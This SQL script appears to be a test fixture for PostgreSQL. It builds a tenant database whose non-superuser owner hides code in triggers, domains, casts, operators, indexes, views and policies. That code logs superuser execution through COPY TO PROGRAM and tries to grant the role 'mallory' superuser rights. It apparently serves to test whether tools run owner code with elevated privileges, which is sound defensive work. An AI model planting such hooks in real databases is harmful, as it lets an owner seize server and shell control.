-- A business whose owner, no superuser, has hidden code of his wherever PostgreSQL runs any: evil.note tries to get rid of
-- the role that it runs as, and writes down, outside of the database and of every transaction, what a superuser ran.
CREATE SCHEMA evil;
GRANT USAGE ON SCHEMA evil TO PUBLIC;
CREATE TABLE evil.place (path text);
GRANT SELECT ON evil.place TO PUBLIC;
CREATE SEQUENCE evil.calls;
GRANT ALL ON evil.calls TO PUBLIC;

CREATE FUNCTION evil.note(via text) RETURNS void LANGUAGE plpgsql AS $$
BEGIN
    BEGIN EXECUTE 'RESET ROLE'; EXCEPTION WHEN OTHERS THEN NULL; END;
    BEGIN EXECUTE 'SET ROLE NONE'; EXCEPTION WHEN OTHERS THEN NULL; END;
    BEGIN EXECUTE 'RESET SESSION AUTHORIZATION'; EXCEPTION WHEN OTHERS THEN NULL; END;
    IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN
        EXECUTE format('COPY (SELECT %L) TO PROGRAM %L', via, 'cat >> ' || (SELECT path FROM evil.place));
        BEGIN EXECUTE 'ALTER ROLE mallory SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
    END IF;
    BEGIN PERFORM nextval('evil.calls'); EXCEPTION WHEN OTHERS THEN NULL; END;
END $$;
-- What is left behind to run later, as whoever comes then.
CREATE FUNCTION evil.linger() RETURNS void LANGUAGE plpgsql AS $$
DECLARE one record;
BEGIN
    BEGIN
        EXECUTE format('DECLARE %I CURSOR WITH HOLD FOR SELECT evil.note(''cursor'')', 'c' || clock_timestamp());
    EXCEPTION WHEN OTHERS THEN NULL; END;
    BEGIN
        FOR one IN SELECT p.oid::regprocedure AS name FROM pg_catalog.pg_proc p
                   WHERE p.pronamespace = pg_catalog.pg_my_temp_schema() LOOP
            EXECUTE format('ALTER FUNCTION %s SECURITY INVOKER', one.name);
        END LOOP;
    EXCEPTION WHEN OTHERS THEN NULL; END;
    BEGIN PERFORM set_config('search_path', 'evil, pg_catalog, public', false); EXCEPTION WHEN OTHERS THEN NULL; END;
END $$;
CREATE FUNCTION evil.whole(via text, value int) RETURNS int IMMUTABLE LANGUAGE plpgsql AS $$
BEGIN PERFORM evil.note(via); RETURN value; END $$;
CREATE FUNCTION evil.truth(via text) RETURNS boolean IMMUTABLE LANGUAGE plpgsql AS $$
BEGIN PERFORM evil.note(via); RETURN true; END $$;
CREATE FUNCTION evil.acts() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    PERFORM evil.note('trigger ' || tg_name || ' ' || tg_op || ' ' || tg_table_name);
    PERFORM evil.linger();
    IF tg_op = 'DELETE' THEN RETURN old; END IF;
    RETURN new;
END $$;
-- Operators that a path with evil in front would find; for a superuser alone they are noted.
CREATE FUNCTION evil.same(text, text) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN PERFORM evil.note('operator'); RETURN $1 OPERATOR(pg_catalog.=) $2; END $$;
CREATE OPERATOR evil.= (LEFTARG = text, RIGHTARG = text, FUNCTION = evil.same);

CREATE TYPE slug AS ENUM ('a', 'b', 'sistema-principal', 'c');
CREATE FUNCTION evil.slug_text(slug) RETURNS text LANGUAGE plpgsql AS $$
BEGIN PERFORM evil.note('cast of the slug'); RETURN enum_out($1)::text; END $$;
CREATE CAST (slug AS text) WITH FUNCTION evil.slug_text(slug) AS ASSIGNMENT;
CREATE DOMAIN amount AS int CHECK (evil.whole('domain', 1) = 1 AND VALUE = evil.whole('domain of the value', VALUE));
CREATE TYPE pair AS (one amount, two int);
CREATE DOMAIN key AS int CHECK (evil.whole('domain of a key', VALUE) = VALUE);

CREATE TABLE tenants (id key PRIMARY KEY, slug slug UNIQUE NOT NULL, name text NOT NULL);
CREATE SEQUENCE ids;
ALTER TABLE tenants ALTER id SET DEFAULT nextval('ids');
INSERT INTO tenants (slug, name) VALUES ('a', 'A'), ('b', 'B');
CREATE TABLE shops (id key PRIMARY KEY, tenant_id key NOT NULL REFERENCES tenants);
INSERT INTO shops VALUES (1, 1), (2, 2);
CREATE TABLE things (
    id key PRIMARY KEY, shop_id key NOT NULL REFERENCES shops DEFERRABLE, x amount DEFAULT evil.whole('default', 1),
    p pair DEFAULT ROW (1, 2)::pair, s slug DEFAULT 'a', g int GENERATED ALWAYS AS (evil.whole('generated', id)) STORED,
    note text, CHECK (evil.whole('check', x) = x), CHECK (evil.truth('check of a constant'))
);
CREATE TABLE parts (id key PRIMARY KEY, thing_id key NOT NULL REFERENCES things ON UPDATE CASCADE ON DELETE CASCADE, x int);
CREATE TABLE entries (
    id key PRIMARY KEY, tenant_id key NOT NULL REFERENCES tenants, item key NOT NULL, quantity numeric NOT NULL
);
INSERT INTO things (id, shop_id) SELECT i, 1 + i % 2 FROM generate_series(1, 60) i;
INSERT INTO parts SELECT i, i, -1 FROM generate_series(1, 60) i;
INSERT INTO entries SELECT i, 1 + i % 2, i % 5, i FROM generate_series(1, 60) i;
CREATE TABLE evil.later (id int);
CREATE FUNCTION evil.defers() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    PERFORM evil.note('deferred trigger ' || tg_table_name);
    IF tg_table_name <> 'later' AND EXISTS (SELECT FROM evil.place WHERE path LIKE '%defers') THEN
        EXECUTE 'SET CONSTRAINTS ALL DEFERRED';
        INSERT INTO evil.later VALUES (1);
    END IF;
    RETURN NULL;
END $$;
CREATE CONSTRAINT TRIGGER later AFTER INSERT ON evil.later DEFERRABLE INITIALLY DEFERRED
    FOR EACH ROW EXECUTE FUNCTION evil.defers();
DO $$
DECLARE one text;
BEGIN
    FOREACH one IN ARRAY ARRAY['tenants', 'shops', 'things', 'parts', 'entries'] LOOP
        EXECUTE format('CREATE TRIGGER plants BEFORE INSERT OR UPDATE OR DELETE ON %I FOR EACH ROW'
                       ' EXECUTE FUNCTION evil.acts()', one);
        EXECUTE format('CREATE TRIGGER whole AFTER INSERT OR UPDATE OR DELETE ON %I EXECUTE FUNCTION evil.acts()', one);
        EXECUTE format('CREATE CONSTRAINT TRIGGER waits AFTER INSERT OR UPDATE OR DELETE ON %I DEFERRABLE INITIALLY'
                       ' DEFERRED FOR EACH ROW EXECUTE FUNCTION evil.defers()', one);
        EXECUTE format('CREATE TRIGGER empties BEFORE TRUNCATE ON %I EXECUTE FUNCTION evil.acts()', one);
        EXECUTE format('CREATE INDEX ON %I (evil.whole(''index'', id))', one);
        EXECUTE format('CREATE INDEX ON %I (evil.whole(''index of a constant'', 7))', one);
        EXECUTE format('CREATE STATISTICS %I ON id, (evil.whole(''statistics'', id)) FROM %I', 'of_' || one, one);
    END LOOP;
END $$;
CREATE VIEW seen AS SELECT t.*, evil.whole('view', t.id) AS v FROM things t;
CREATE MATERIALIZED VIEW kept AS SELECT evil.whole('materialised view', 1) AS v;
ALTER TABLE shops ENABLE ROW LEVEL SECURITY;
CREATE POLICY everything ON shops USING (evil.truth('policy')) WITH CHECK (evil.truth('policy'));
